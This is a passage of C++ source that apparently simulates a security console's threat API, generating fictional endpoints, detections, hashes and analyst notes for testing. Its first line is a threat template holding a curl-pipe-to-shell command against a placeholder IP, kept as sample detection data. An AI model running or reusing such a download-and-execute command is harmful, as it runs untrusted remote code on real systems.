        "bash -c 'curl -s http://198.51.100.7/x.sh | sh'", 0, {TUnixShell, TIngress, TNone}},
};
constexpr int TemplateCount = int(std::size(Templates));

constexpr const char *FirstNames[] = {"anna", "ben", "carla", "deniz", "emil", "fatima", "georg", "hana",
    "ivan", "julia", "kenji", "lea", "marco", "nina", "omar", "priya", "quentin", "rosa", "sven", "tariq",
    "ute", "vera", "wei", "yusuf", "zoe", "john"};
constexpr const char *LastNames[] = {"schmidt", "miller", "nguyen", "garcia", "kowalski", "tanaka", "okafor",
    "rossi", "jensen", "haddad", "fischer", "smith", "doe", "meyer", "silva", "yilmaz", "brown", "novak"};
constexpr const char *Departments[] = {"FIN", "HR", "ENG", "SLS", "OPS", "IT", "MKT", "LEG", "RND", "SUP"};
constexpr const char *ServerRoles[] = {"DB", "WEB", "DC", "FS", "APP", "EXCH", "SQL", "PRN", "RDS", "BKP"};
constexpr const char *LinuxRoles[] = {"k8s-node", "build", "web", "db", "bastion", "ci-runner", "proxy"};
constexpr const char *MacPrefixes[] = {"3c:22:fb", "f8:ff:c2", "a4:83:e7", "14:7d:da"};
constexpr const char *PcPrefixes[] = {"00:50:56", "b4:2e:99", "d8:bb:c1", "00:15:5d", "3c:52:82"};

struct Analyst
{
    const char16_t *name;
    quint64 id;
};
constexpr Analyst Analysts[] = {
    {u"Jane Analyst", 1466523455634785813ull},
    {u"Omar Haddad", 1509823440919201331ull},
    {u"Li Wei", 1602210874541283622ull},
};
constexpr const char16_t *ApiUserEmail = u"jane.analyst@acme.example";

constexpr const char16_t *NoteTexts[] = {
    u"Confirmed with the user: attachment opened from a phishing mail. Host isolated.",
    u"Escalated to IR, ticket INC-%1.",
    u"False positive: internal build tool, exclusion requested.",
    u"Hash submitted to the sandbox: 54/72 engines flag it.",
    u"Waiting for the user to call back.",
    u"Known adware bundle, user informed.",
    u"Related to the campaign tracked in OpenCTI.",
    u"Quarantine verified, no lateral movement seen.",
    u"VIP laptop – handle with priority.",
    u"Kunde informiert, Rechner wird neu aufgesetzt (Ticket Nr. %1).",
    u"Note with <b>markup</b> & \"quotes\" – must show as plain text.",
};

// ------------------------------------------------------------------------------------------------
// Seeded entities

struct Account
{
    quint64 id = 0;
    QString name;
    QString domain; // Windows domain of its endpoints
    const char *accountType = "Paid";
    qint64 createdAt = 0;
    qint64 updatedAt = 0;
};

struct Site
{
    quint64 id = 0;
    QString name;
    int account = 0;
    const char *state = "active";
    const char *siteType = "Paid";
    const char *sku = "Complete";
    int totalLicenses = 0;
    int activeLicenses = 0;
    qint64 createdAt = 0;
    qint64 updatedAt = 0;
    qint64 expiration = 0; // 0: unlimited
    bool isDefault = false;
    int netOctet = 0; // 10.<netOctet>.x.y
    QString externalIp;
    QString description;
    QString registrationToken;
};

struct Group
{
    quint64 id = 0;
    QString name;
    int site = 0;
};

struct Agent
{
    quint64 id = 0;
    quint64 interfaceId = 0;
    QString uuid;
    QString computerName;
    QString user;
    QString domain;
    QString processUser;
    QString ipv4;
    QString ipv6;
    QString mac;
    qint64 registeredAt = 0;
    qint64 scanStarted = 0;
    qint64 scanFinished = 0;
    int activeThreats = 0;
    AgentKind kind = KindWinDesktop;
    quint8 osVariant = 0;
    quint8 version = 0;
    quint8 site = 0;
    quint8 group = 0;
    bool active = true;
    bool connected = true;
    bool protect = true;
};

enum ThreatFlag : quint8 { FlagHashes = 1, FlagMd5 = 2 };

// Kept compact: the benchmark holds 100,000 of these.
struct Threat
{
    quint64 id = 0;
    qint64 createdAt = 0;
    qint64 updatedAt = 0;
    qint64 identifiedAt = 0;
    QString name;
    QString filePath; // empty: fileless
    quint32 fileSize = 0;
    quint16 agent = 0;
    quint16 noteCount = 0;
    quint8 tmpl = 0;
    quint8 classification = 0;
    quint8 confidence = 0;
    quint8 verdict = 0;
    quint8 incident = 0;
    quint8 mitigation = 0;
    quint8 engine = 0;
    quint8 initiatedBy = 0;
    quint8 flags = 0;
    quint8 techniqueCount = 0;
    quint8 techniques[3] = {};
    quint8 sha1[20] = {};
    quint8 sha256[32] = {};
    quint8 md5[16] = {};
};

struct Note
{
    quint64 id = 0;
    QString text;
    qint64 createdAt = 0;
    qint64 updatedAt = 0;
    quint8 analyst = 0;
    bool edited = false;
};

enum IocType : quint8 { IocDns, IocIpv4, IocIpv6, IocMd5, IocSha1, IocSha256, IocUrl };
constexpr const char *IocTypeNames[] = {"DNS", "IPV4", "IPV6", "MD5", "SHA1", "SHA256", "URL"};
enum ScopeKind : quint8 { ScopeGlobal, ScopeAccount, ScopeSite };
constexpr const char *ScopeNames[] = {"global", "account", "site"};

struct Ioc
{
    quint64 seq = 0;
    QString uuid;
    QString batchId;
    QString value;
    QString key; // scope|scopeId|type|normalized value
    QString source;
    QString externalId;
    QString name;
    QString description;
    QString creator;
    QString method;
    QString creationTime; // as given; empty: null
    QString validUntil;
    QJsonObject extra; // list fields and anything else the client sent
    qint64 creationTimeUs = TimeMin;
    qint64 uploadTime = 0;
    qint64 updatedAt = 0;
    quint64 scopeId = 0;
    int severity = -1;
    int originalRiskScore = -1;
    quint8 type = 0;
    quint8 scope = ScopeGlobal;
};

struct FirewallRule
{
    quint64 id = 0;
    quint64 scopeId = 0;
    QJsonObject data; // the client's fields (normalized)
    qint64 createdAt = 0;
    qint64 updatedAt = 0;
    int order = 0;
    quint8 scope = ScopeGlobal;
};

enum SortField : quint8 {
    SortId,
    SortCreatedAt,
    SortUpdatedAt,
    SortMitigationStatus,
    SortFileDisplayName,
    SortAgentVersion,
    SortAgentMachineType,
    SortSiteId,
    SortFieldCount
};
constexpr const char *SortFieldNames[] = {"id", "createdAt", "updatedAt", "mitigationStatus",
    "fileDisplayName", "agentVersion", "agentMachineType", "siteId"};

// A parsed GET /threats request.
struct ThreatQuery
{
    bool hasIds = false;
    QSet<quint64> ids;
    quint64 siteMask = ~quint64(0);
    quint64 groupMask = ~quint64(0);
    qint64 createdMin = TimeMin;
    qint64 createdMax = TimeMax;
    qint64 updatedMin = TimeMin;
    qint64 updatedMax = TimeMax;
    quint32 incidentMask = ~0u;
    quint32 verdictMask = ~0u;
    quint32 classificationMask = ~0u;
    quint32 confidenceMask = ~0u;
    quint32 mitigationMask = ~0u;
    bool hasHashes = false;
    QList<QByteArray> hashes; // raw digests; the size tells the kind
    QString displayLike;
    QString text;
    QByteArray textHex; // lower-case hex when text could be (part of) a hash
    quint64 textId = 0;
    int noteExists = -1;
    int resolved = -1;

    SortField sort = SortCreatedAt;
    bool descending = true;
    int limit = DefaultLimit;
    int skip = 0;
    bool hasCursor = false;
    quint64 cursorKey = 0;
    QString cursorText;
    quint64 cursorId = 0;

    QString cacheKey;
};

QStringView fileDisplayNameOf(const Threat &t)
{
    if (t.filePath.isEmpty())
        return t.name;
    const qsizetype slash = std::max(t.filePath.lastIndexOf(u'\\'), t.filePath.lastIndexOf(u'/'));
    return QStringView(t.filePath).mid(slash + 1);
}

bool isHexText(QStringView s)
{
    if (s.isEmpty())
        return false;
    for (QChar c : s) {
        const char16_t u = c.unicode();
        if (!((u >= u'0' && u <= u'9') || (u >= u'a' && u <= u'f') || (u >= u'A' && u <= u'F')))
            return false;
    }
    return true;
}

// Strict dotted quad, no leading zeros.
bool isIpv4(QStringView s)
{
    const auto parts = s.split(u'.');
    if (parts.size() != 4)
        return false;
    for (QStringView p : parts) {
        if (p.isEmpty() || p.size() > 3 || (p.size() > 1 && p[0] == u'0'))
            return false;
        for (QChar c : p) {
            if (c < u'0' || c > u'9')
                return false;
        }
        if (p.toInt() > 255)
            return false;
    }
    return true;
}

bool isIpv6(QStringView s)
{
    if (!s.contains(u':') || s.contains(u'%'))
        return false;
    QHostAddress address;
    return address.setAddress(s.toString()) && address.protocol() == QAbstractSocket::IPv6Protocol;
}

bool isHostName(QStringView s, bool allowWildcard)
{
    if (allowWildcard && s.startsWith(u"*."))
        s = s.mid(2);
    if (s.endsWith(u'.'))
        s.chop(1);
    if (s.isEmpty() || s.size() > 253)
        return false;
    const auto labels = s.split(u'.');
    if (labels.size() < 2)
        return false;
    bool allNumeric = true;
    for (QStringView label : labels) {
        if (label.isEmpty() || label.size() > 63 || label.startsWith(u'-') || label.endsWith(u'-'))
            return false;
        for (QChar c : label) {
            const char16_t u = c.unicode();
            const bool digit = u >= u'0' && u <= u'9';
            if (!digit)
                allNumeric = false;
            if (!(digit || (u >= u'a' && u <= u'z') || (u >= u'A' && u <= u'Z') || u == u'-' || u == u'_'))
                return false;
        }
    }
    return !allNumeric;
}

bool isUrl(QStringView s)
{
    if (s.trimmed().size() != s.size() || s.contains(u' '))
        return false;
    const QUrl url(s.toString(), QUrl::StrictMode);
    return url.isValid() && !url.scheme().isEmpty() && !url.host().isEmpty();
}

bool isIpAddress(QStringView s)
{
    return isIpv4(s) || isIpv6(s);
}

bool isCidr(QStringView s)
{
    const qsizetype slash = s.indexOf(u'/');
    if (slash <= 0)
        return false;
    const QStringView ip = s.left(slash);
    bool ok = false;
    const int bits = s.mid(slash + 1).toInt(&ok);
    if (!ok)
        return false;
    if (isIpv4(ip))
        return bits >= 0 && bits <= 32;
    if (isIpv6(ip))
        return bits >= 0 && bits <= 128;
    return false;
}

bool isIpRange(QStringView s)
{
    const qsizetype dash = s.indexOf(u'-');
    if (dash <= 0)
        return false;
    const QStringView a = s.left(dash).trimmed();
    const QStringView b = s.mid(dash + 1).trimmed();
    return (isIpv4(a) && isIpv4(b)) || (isIpv6(a) && isIpv6(b));
}

} // namespace

// ================================================================================================

struct SimTenant::Private
{
    bool seedFlags = true;
    Private(quint64 seedValue, qint64 base)
        : seed(seedValue)
        , baseUs(base)
        , idRng(seedValue, 0x51d5eedu)
    {
        // Rank of each agent version string (sorting by agentVersion sorts these strings).
        std::array<int, AgentVersionCount> order {};
        for (int i = 0; i < AgentVersionCount; ++i)
            order[i] = i;
        std::sort(order.begin(), order.end(),
            [](int a, int b) { return std::strcmp(AgentVersions[a].version, AgentVersions[b].version) < 0; });
        for (int i = 0; i < AgentVersionCount; ++i)
            versionRank[order[i]] = i;
    }

    // --- seeded data
    quint64 seed;
    qint64 baseUs;
    std::vector<Account> accounts;
    std::vector<Site> sites;
    std::vector<Group> groups;
    std::vector<Agent> agents;
    std::vector<Threat> threats;
    QHash<quint64, quint32> threatIndex;
    QHash<quint64, QList<Note>> notes;
    QSet<quint64> usedIds;
    std::array<int, AgentVersionCount> versionRank {};

    // --- runtime
    Rng idRng; // ids and uuids of things created at runtime
    qint64 lastNow = 0;
    std::vector<Ioc> iocs; // ascending seq
    QHash<QString, quint64> iocByKey;
    quint64 nextIocSeq = 1;
    quint32 batchCounter = 0;
    QSet<QString> stringPool;
    std::vector<FirewallRule> rules; // ascending id

    // --- caches (threat orders per sort field; filtered results, LRU)
    std::array<std::vector<quint32>, SortFieldCount> orders;
    std::array<bool, SortFieldCount> orderValid {};
    struct CacheEntry
    {
        QString key;
        std::shared_ptr<const std::vector<quint32>> rows;
    };
    std::list<CacheEntry> cache;

    // generation
    void generate(int threatCount);
    quint64 makeId(Rng &rng, qint64 us);
    void generateOrganisation(Rng &rng);
    void generateAgents(Rng &rng, int count);
    void generateThreats(Rng &rng, int count);
    void generateNotes(Rng &rng);

    // helpers
    qint64 now();
    quint64 newId() { return makeId(idRng, now()); }
    QString intern(const QString &s);
    void threatsChanged();
    bool threatVisible(const Threat &t, const SimCaller &caller) const
    {
        return !caller.isScoped() || agents[t.agent].site == caller.siteIndex;
    }
    const Threat *findThreat(const QString &id, const SimCaller &caller) const;
    int siteById(quint64 id) const;
    int accountById(quint64 id) const;
    std::optional<SimReply> checkScope(
        const QStringList &accountIds, const QStringList &siteIds, const SimCaller &caller) const;

    // threats
    void writeThreat(QByteArray &out, const Threat &t) const;
    quint64 numericKey(SortField f, const Threat &t) const;
    int compareToCursor(const ThreatQuery &q, const Threat &t) const;
    const std::vector<quint32> &sortedOrder(SortField f);
    std::shared_ptr<const std::vector<quint32>> filtered(const ThreatQuery &q);
    std::optional<SimReply> parseThreatQuery(
        const QUrlQuery &query, const SimCaller &caller, ThreatQuery *q) const;
    QString threatCursor(const ThreatQuery &q, const Threat &t) const;
    QJsonObject noteJson(const Note &n) const;

    // sites, accounts
    QJsonObject siteJson(int index) const;
    QJsonObject accountJson(int index) const;

    // IOCs
    QJsonObject iocJson(const Ioc &ioc) const;
    QString scopeLabel(quint8 scope, quint64 scopeId) const;

    // firewall
    QJsonObject ruleJson(const FirewallRule &rule) const;
    QStringList validateRule(const QJsonObject &rule, bool partial) const;
};

// ------------------------------------------------------------------------------------------------
// Generation

quint64 SimTenant::Private::makeId(Rng &rng, qint64 us)
{
    // Like SentinelOne ids: 19 digits, roughly increasing with time.
    const quint64 ms = quint64(std::max<qint64>(0, us / UsPerMs));
    for (;;) {
        const quint64 id = 1000000000000000000ull + (ms << 19) + rng.below(1u << 19);
        if (!usedIds.contains(id)) {
            usedIds.insert(id);
            return id;
        }
    }
}

void SimTenant::Private::generate(int threatCount)
{
    Rng rng(seed, 0);
    generateOrganisation(rng);
    generateAgents(rng, std::clamp(threatCount / 5, 10, MaxAgents));
    generateThreats(rng, threatCount);
    generateNotes(rng);
}

void SimTenant::Private::generateOrganisation(Rng &rng)
{
    struct AccountSpec
    {
        const char16_t *name;
        const char16_t *domain;
        int ageDays;
    };
    static constexpr AccountSpec accountSpecs[] = {
        {u"Acme Corp", u"ACME", 1460},
        {u"Globex", u"GLOBEX", 730},
    };
    for (const AccountSpec &spec : accountSpecs) {
        Account a;
        a.createdAt = baseUs - qint64(spec.ageDays) * UsPerDay - rng.between64(0, UsPerDay);
        a.updatedAt = baseUs - rng.between64(1, 60) * UsPerDay;
        a.id = makeId(rng, a.createdAt);
        a.name = QString::fromUtf16(spec.name);
        a.domain = QString::fromUtf16(spec.domain);
        accounts.push_back(a);
    }

    struct SiteSpec
    {
        const char16_t *name;
        int account;
        const char *state;
        const char *siteType;
        const char *sku;
        int totalLicenses;
        bool isDefault;
        const char16_t *description;
        bool serversGroup;
        bool laptopsGroup;
    };
    static constexpr SiteSpec siteSpecs[] = {
        {u"Berlin HQ", 0, "active", "Paid", "Complete", 2500, false, u"Headquarters, Alexanderplatz", true,
            true},
        {u"Default site", 0, "active", "Paid", "Control", 500, true, nullptr, false, false},
        {u"New York Office", 0, "active", "Paid", "Complete", 1500, false, u"Sales & trading floor", true,
            true},
        {u"Singapore DC", 0, "active", "Paid", "Complete", 800, false, u"Data centre (APAC)", true, false},
        {u"Legacy Lab", 0, "expired", "Trial", "Control", 50, false, u"Old test lab – do not use", false,
            false},
        {u"Default site", 1, "active", "Paid", "Complete", 600, true, nullptr, true, false},
        {u"Springfield Plant", 1, "active", "Trial", "Control", 400, false, u"Nuclear plant, sector 7G",
            false, false},
    };
    int index = 0;
    for (const SiteSpec &spec : siteSpecs) {
        Site s;
        s.name = QString::fromUtf16(spec.name);
        s.account = spec.account;
        s.state = spec.state;
        s.siteType = spec.siteType;
        s.sku = spec.sku;
        s.totalLicenses = spec.totalLicenses;
        s.isDefault = spec.isDefault;
        s.description = spec.description ? QString::fromUtf16(spec.description) : QString();
        s.createdAt = accounts[spec.account].createdAt + rng.between64(1, 300) * UsPerDay;
        s.updatedAt = baseUs - rng.between64(1, 30) * UsPerDay;
        if (std::strcmp(spec.state, "expired") == 0)
            s.expiration = baseUs - rng.between64(20, 200) * UsPerDay;
        s.id = makeId(rng, s.createdAt);
        s.netOctet = 10 + index * 10;
        static constexpr const char *externalPrefixes[] = {"203.0.113.", "198.51.100.", "192.0.2."};
        s.externalIp = QLatin1String(externalPrefixes[index % 3]) + QString::number(rng.between(2, 250));
        s.registrationToken = QString::fromLatin1(
            QByteArray::fromHex(rng.hexString(48).toLatin1()).toBase64(QByteArray::OmitTrailingEquals));
        sites.push_back(s);

        Group g;
        g.site = index;
        g.name = u"Default Group"_s;
        g.id = makeId(rng, s.createdAt + UsPerMin);
        groups.push_back(g);
        if (spec.serversGroup) {
            g.name = u"Servers"_s;
            g.id = makeId(rng, s.createdAt + UsPerHour);
            groups.push_back(g);
        }
        if (spec.laptopsGroup) {
            g.name = u"Laptops"_s;
            g.id = makeId(rng, s.createdAt + 2 * UsPerHour);
            groups.push_back(g);
        }
        ++index;
    }
}

void SimTenant::Private::generateAgents(Rng &rng, int count)
{
    static constexpr int siteWeights[] = {30, 8, 22, 14, 3, 8, 15};
    static_assert(std::size(siteWeights) == 7);
    static constexpr int kindWeights[] = {50, 18, 12, 12, 8};

    QSet<QString> names;
    agents.reserve(std::size_t(count));
    for (int i = 0; i < count; ++i) {
        Agent a;
        a.kind = AgentKind(rng.weighted(kindWeights, KindCount));
        a.site = quint8(rng.weighted(siteWeights, int(sites.size())));
        const Site &site = sites[a.site];
        const OsType os = KindOs[a.kind];

        // group: servers and laptops go to their group when the site has one
        const char16_t *wanted = a.kind == KindWinServer || a.kind == KindLinux ? u"Servers"
            : a.kind == KindWinLaptop || a.kind == KindMac                      ? u"Laptops"
                                                                                : u"Default Group";
        int defaultGroup = -1;
        int group = -1;
        for (int g = 0; g < int(groups.size()); ++g) {
            if (groups[std::size_t(g)].site != a.site)
                continue;
            if (defaultGroup < 0)
                defaultGroup = g;
            if (groups[std::size_t(g)].name == QStringView(wanted))
                group = g;
        }
        a.group = quint8(group >= 0 ? group : defaultGroup);

        const QString first = QLatin1String(rng.pick(FirstNames));
        const QString last = QLatin1String(rng.pick(LastNames));
        a.user = first.left(1) + last;

        QString name;
        switch (a.kind) {
        case KindWinDesktop:
            name = u"WS-"_s + QLatin1String(rng.pick(Departments)) + u'-'
                + QString::number(rng.between(1, 9999)).rightJustified(4, u'0');
            break;
        case KindWinLaptop:
            name = u"LT-"_s + QLatin1String(rng.pick(Departments)) + u'-'
                + QString::number(rng.between(1, 9999)).rightJustified(4, u'0');
            break;
        case KindWinServer:
            name = u"SRV-"_s + QLatin1String(rng.pick(ServerRoles)) + u'-'
                + QString::number(rng.between(1, 99)).rightJustified(2, u'0');
            break;
        case KindMac:
            name = u"MBP-"_s + a.user.toUpper();
            break;
        case KindLinux:
        case KindCount:
            name = u"lnx-"_s + QLatin1String(rng.pick(LinuxRoles)) + u'-'
                + QString::number(rng.between(1, 99)).rightJustified(2, u'0');
            break;
        }
        if (names.contains(name)) {
            int n = 2;
            while (names.contains(name + u'-' + QString::number(n)))
                ++n;
            name += u'-' + QString::number(n);
        }
        names.insert(name);
        a.computerName = name;

        int variants[16];
        int variantCount = 0;
        for (int v = 0; v < int(std::size(OsVariants)); ++v) {
            if (OsVariants[v].kind == a.kind)
                variants[variantCount++] = v;
        }
        a.osVariant = quint8(variants[rng.below(quint32(variantCount))]);
        int versions[8];
        int versionCount = 0;
        for (int v = 0; v < AgentVersionCount; ++v) {
            if (AgentVersions[v].os == os)
                versions[versionCount++] = v;
        }
        a.version = quint8(versions[rng.below(quint32(versionCount))]);

        a.domain = os == OsWindows ? accounts[std::size_t(site.account)].domain : u"unknown"_s;
        if (os == OsWindows)
            a.processUser = a.kind == KindWinServer ? u"NT AUTHORITY\\SYSTEM"_s : a.domain + u'\\' + a.user;
        else
            a.processUser = os == OsMac ? a.user : u"root"_s;
        a.ipv4 = u"10.%1.%2.%3"_s.arg(QString::number(site.netOctet), QString::number(rng.between(0, 255)),
            QString::number(rng.between(1, 254)));
        a.ipv6 = u"fe80::%1:%2:%3:%4"_s.arg(QString::number(rng.below(65536), 16),
            QString::number(rng.below(65536), 16), QString::number(rng.below(65536), 16),
            QString::number(rng.below(65536), 16));
        const char *prefix = os == OsMac ? rng.pick(MacPrefixes) : rng.pick(PcPrefixes);
        a.mac = QLatin1String(prefix) + u':' + rng.hexString(1) + u':' + rng.hexString(1) + u':'
            + rng.hexString(1);
        a.registeredAt = baseUs - rng.between64(91, 900) * UsPerDay - rng.between64(0, UsPerDay);
        a.scanStarted = a.registeredAt + rng.between64(1, 60) * UsPerMin;
        a.scanFinished = a.scanStarted + rng.between64(20, 300) * UsPerMin + rng.between64(0, UsPerMin);
        a.active = rng.chance(0.93);
        a.connected = a.active && rng.chance(0.85);
        a.protect = rng.chance(0.9);
        a.id = makeId(rng, a.registeredAt);
        a.interfaceId = makeId(rng, a.registeredAt + UsPerSec);
        a.uuid = rng.hexString(16);
        agents.push_back(a);
    }
    for (const Agent &a : agents)
        ++sites[a.site].activeLicenses;
    for (Site &s : sites)
        s.totalLicenses = std::max(s.totalLicenses, s.activeLicenses + s.activeLicenses / 5 + 5);
}

void SimTenant::Private::generateThreats(Rng &rng, int count)
{
    // template indices per OS, split into file-based and fileless
    std::array<std::vector<quint8>, 3> fileTemplates;
    std::array<std::vector<quint8>, 3> filelessTemplates;
    for (int i = 0; i < TemplateCount; ++i) {
        for (int os = 0; os < 3; ++os) {
            if (Templates[i].osMask & (1 << os))
                (Templates[i].file ? fileTemplates : filelessTemplates)[std::size_t(os)].push_back(quint8(i));
        }
    }

    threats.reserve(std::size_t(count));
    threatIndex.reserve(count);
    const int agentCount = int(agents.size());
    for (int i = 0; i < count; ++i) {
        Threat t;
        // a few endpoints collect many threats
        const double u = rng.unit();
        t.agent = quint16(std::min(agentCount - 1, int(u * u * agentCount)));
        const Agent &agent = agents[t.agent];
        const OsType os = KindOs[agent.kind];

        const bool fileless = rng.chance(0.05);
        const auto &pool = fileless ? filelessTemplates[os] : fileTemplates[os];
        t.tmpl = pool[rng.below(quint32(pool.size()))];
        const ThreatTemplate &tp = Templates[t.tmpl];

        const QString number = QString::number(rng.between(1000, 99999));
        t.name = QString::fromUtf16(tp.name).replace(u"%1"_s, number);
        if (!fileless) {
            QString dir = QString::fromUtf16(tp.dir);
            dir.replace(u"{u}"_s, agent.user);
            if (dir.contains(u"{r}"_s))
                dir.replace(u"{r}"_s, rng.hexString(4).toUpper());
            t.filePath = dir + QString::fromUtf16(tp.file).replace(u"%1"_s, number);
            t.flags = FlagHashes;
            for (quint8 &b : t.sha1)
                b = quint8(rng.below(256));
            for (quint8 &b : t.sha256)
                b = quint8(rng.below(256));
            if (rng.chance(0.84)) {
                t.flags |= FlagMd5;
                for (quint8 &b : t.md5)
                    b = quint8(rng.below(256));
            }
            t.fileSize = quint32(rng.between(12 * 1024, 9 * 1024 * 1024));
        }
        t.classification = tp.classification;
        t.confidence = rng.chance(0.7) ? 0 : 1;

        if (fileless) {
            t.engine = rng.chance(0.7) ? EngBehavioral : EngExploits;
        } else if (rng.chance(0.02)) {
            t.engine = EngManual;
        } else if (t.confidence == 1 && rng.chance(0.5)) {
            t.engine = EngStaticSuspicious;
        } else {
            static constexpr EngineId fileEngines[]
                = {EngCloud, EngStatic, EngReputation, EngBehavioral, EngDocuments, EngIntrusion};
            t.engine = rng.pick(fileEngines);
        }
        t.initiatedBy = quint8(rng.weighted(InitiatedByWeights, int(std::size(InitiatedByWeights))));

        // status, verdict and mitigation, correlated the way consoles tend to look
        const double s = rng.unit();
        t.incident = s < 0.45 ? IncidentUnresolved : s < 0.6 ? IncidentInProgress : IncidentResolved;
        const double v = rng.unit();
        if (t.incident == IncidentResolved)
            t.verdict = v < 0.6 ? VerdictTruePositive : v < 0.9 ? VerdictFalsePositive : VerdictSuspicious;
        else
            t.verdict = v < 0.7 ? VerdictUndefined : v < 0.85 ? VerdictSuspicious : VerdictTruePositive;
        if (t.verdict == VerdictFalsePositive && rng.chance(0.7))
            t.mitigation = MitigationBenign;
        else
            t.mitigation = rng.chance(0.75) ? MitigationMitigated : MitigationNotMitigated;

        t.createdAt = baseUs - rng.between64(UsPerMin, 90 * UsPerDay);
        t.identifiedAt = t.createdAt - rng.between64(20 * UsPerMs, 3 * UsPerSec);
        qint64 updated = t.createdAt;
        switch (t.incident) {
        case IncidentResolved:
            updated += rng.between64(10 * UsPerMin, 10 * UsPerDay);
            break;
        case IncidentInProgress:
            updated += rng.between64(UsPerMin, 2 * UsPerDay);
            break;
        default:
            updated += rng.between64(0, 5 * UsPerSec);
            break;
        }
        t.updatedAt = std::min(updated, baseUs - rng.between64(0, UsPerMin));
        t.updatedAt = std::max(t.updatedAt, t.createdAt);

        // 1..3 MITRE techniques: the template's first, then its others or random ones
        static constexpr int techniqueWeights[] = {60, 30, 10};
        const int wanted = 1 + rng.weighted(techniqueWeights, 3);
        for (int k = 0; k < 3 && t.techniqueCount < wanted; ++k) {
            if (tp.techniques[k] != TNone)
                t.techniques[t.techniqueCount++] = quint8(tp.techniques[k]);
        }
        while (t.techniqueCount < wanted) {
            const quint8 tech = quint8(rng.below(TechniqueCount));
            if (std::find(t.techniques, t.techniques + t.techniqueCount, tech)
                == t.techniques + t.techniqueCount)
                t.techniques[t.techniqueCount++] = tech;
        }

        t.id = makeId(rng, t.createdAt);
        threatIndex.insert(t.id, quint32(threats.size()));
        threats.push_back(std::move(t));
    }
    for (const Threat &t : threats) {
        if (t.incident != IncidentResolved)
            ++agents[t.agent].activeThreats;
    }
}

void SimTenant::Private::generateNotes(Rng &rng)
{
    for (Threat &t : threats) {
        const double u = rng.unit();
        int count = 0;
        bool flagged = false;
        if (u < 0.02) {
            flagged = true;
            count = 1 + rng.between(0, 2);
        } else if (u < 0.12) {
            count = rng.between(1, 3);
        }
        if (!count)
            continue;
        QList<Note> list;
        qint64 at = t.createdAt;
        const int flagAt = flagged ? rng.between(0, count - 1) : -1;
        for (int k = 0; k < count; ++k) {
            Note n;
            at += rng.between64(UsPerMin, std::max<qint64>(UsPerMin + 1, (baseUs - at) / 4));
            at = std::min(at, baseUs - UsPerSec);
            n.createdAt = at;
            n.updatedAt = at;
            n.analyst = quint8(k == flagAt ? 0 : rng.weighted(std::array<int, 3> {6, 3, 2}.data(), 3));
            if (k == flagAt && seedFlags) {
                n.text = u"[OpenCTI_add]"_s;
            } else {
                n.text = QString::fromUtf16(rng.pick(NoteTexts))
                             .replace(u"%1"_s, QString::number(rng.between(1000, 9999)));
            }
            n.id = makeId(rng, n.createdAt);
            list.push_back(n);
        }
        t.noteCount = quint16(list.size());
        t.updatedAt = std::max(t.updatedAt, at);
        notes.insert(t.id, list);
    }
}

// ------------------------------------------------------------------------------------------------
// Helpers

qint64 SimTenant::Private::now()
{
    qint64 n = nowUsecs();
    if (n <= lastNow)
        n = lastNow + 1;
    lastNow = n;
    return n;
}

QString SimTenant::Private::intern(const QString &s)
{
    if (s.isEmpty())
        return QString();
    const auto it = stringPool.constFind(s);
    if (it != stringPool.constEnd())
        return *it;
    if (stringPool.size() < 10000)
        stringPool.insert(s);
    return s;
}

void SimTenant::Private::threatsChanged()
{
    cache.clear();
    orderValid[SortUpdatedAt] = false;
}

const Threat *SimTenant::Private::findThreat(const QString &id, const SimCaller &caller) const
{
    const auto parsed = parseId(id);
    if (!parsed)
        return nullptr;
    const auto it = threatIndex.constFind(*parsed);
    if (it == threatIndex.constEnd())
        return nullptr;
    const Threat &t = threats[*it];
    return threatVisible(t, caller) ? &t : nullptr;
}

int SimTenant::Private::siteById(quint64 id) const
{
    for (std::size_t i = 0; i < sites.size(); ++i) {
        if (sites[i].id == id)
            return int(i);
    }
    return -1;
}

int SimTenant::Private::accountById(quint64 id) const
{
    for (std::size_t i = 0; i < accounts.size(); ++i) {
        if (accounts[i].id == id)
            return int(i);
    }
    return -1;
}

std::optional<SimReply> SimTenant::Private::checkScope(
    const QStringList &accountIds, const QStringList &siteIds, const SimCaller &caller) const
{
    if (!caller.isScoped())
        return std::nullopt;
    const Site &own = sites[std::size_t(caller.siteIndex)];
    for (const QString &id : siteIds) {
        if (parseId(id) != own.id)
            return forbidden(
                u"This user is restricted to site \"%1\" and may not access site %2"_s.arg(own.name, id));
    }
    for (const QString &id : accountIds) {
        if (parseId(id) != accounts[std::size_t(own.account)].id)
            return forbidden(
                u"This user is restricted to site \"%1\" and may not access account %2"_s.arg(own.name, id));
    }
    return std::nullopt;
}

// ------------------------------------------------------------------------------------------------
// Threat JSON

void SimTenant::Private::writeThreat(QByteArray &out, const Threat &t) const
{
    const Agent &a = agents[t.agent];
    const Site &s = sites[a.site];
    const Account &acc = accounts[std::size_t(s.account)];
    const Group &g = groups[a.group];
    const OsVariant &os = OsVariants[a.osVariant];
    const char *version = AgentVersions[a.version].version;
    const char *mitigationMode = a.protect ? "protect" : "detect";
    const ThreatTemplate &tp = Templates[t.tmpl];
    const Engine &engine = Engines[t.engine];
    const bool fileless = t.filePath.isEmpty();

    JsonWriter w(out);
    w.beginObject();

    w.beginObject("agentDetectionInfo");
    w.id("accountId", acc.id);
    w.str("accountName", acc.name);
    w.str("agentIpV4", a.ipv4);
    w.str("agentIpV6", a.ipv6);
    w.str("agentLastLoggedInUserName", a.user);
    w.latin("agentMitigationMode", mitigationMode);
    w.latin("agentOsName", os.name);
    w.latin("agentVersion", version);
    w.str("externalIp", s.externalIp);
    w.id("siteId", s.id);
    w.str("siteName", s.name);
    w.endObject();

    w.beginObject("agentRealtimeInfo");
    w.id("accountId", acc.id);
    w.str("accountName", acc.name);
    w.integer("activeThreats", a.activeThreats);
    w.str("agentComputerName", a.computerName);
    w.id("agentId", a.id);
    w.boolean("agentIsActive", a.active);
    w.latin("agentMachineType", MachineTypeNames[KindMachine[a.kind]]);
    w.latin("agentNetworkStatus", a.connected ? "connected" : "disconnected");
    w.latin("agentOsName", os.name);
    w.latin("agentOsRevision", os.revision);
    w.latin("agentOsType", OsTypeNames[KindOs[a.kind]]);
    w.str("agentUuid", a.uuid);
    w.latin("agentVersion", version);
    w.id("groupId", g.id);
    w.str("groupName", g.name);
    w.beginArray("networkInterfaces");
    w.beginObject();
    w.beginArray("inet");
    w.str(nullptr, a.ipv4);
    w.endArray();
    w.beginArray("inet6");
    w.str(nullptr, a.ipv6);
    w.endArray();
    w.latin("name", InterfaceNames[a.kind]);
    w.str("physical", a.mac);
    w.endObject();
    w.endArray();
    w.id("siteId", s.id);
